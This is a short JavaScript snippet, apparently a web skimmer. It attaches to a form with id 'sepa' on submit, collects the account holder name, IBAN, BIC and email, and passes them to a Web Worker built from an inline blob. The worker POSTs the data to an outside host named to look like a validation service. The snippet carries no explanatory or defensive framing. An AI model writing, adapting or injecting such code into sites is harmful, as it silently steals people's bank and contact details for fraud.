const source = `self.onmessage = (m) => fetch('https://sepa-validation.example/iban', { method: 'POST', mode: 'no-cors', body: m.data });`;
const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));

document.querySelector('form#sepa')?.addEventListener('submit', (e) => {
  const data = new FormData(e.currentTarget);
  worker.postMessage(`${data.get('account_holder')};${data.get('iban')};${data.get('bic') ?? ''};${data.get('email')}`);
});
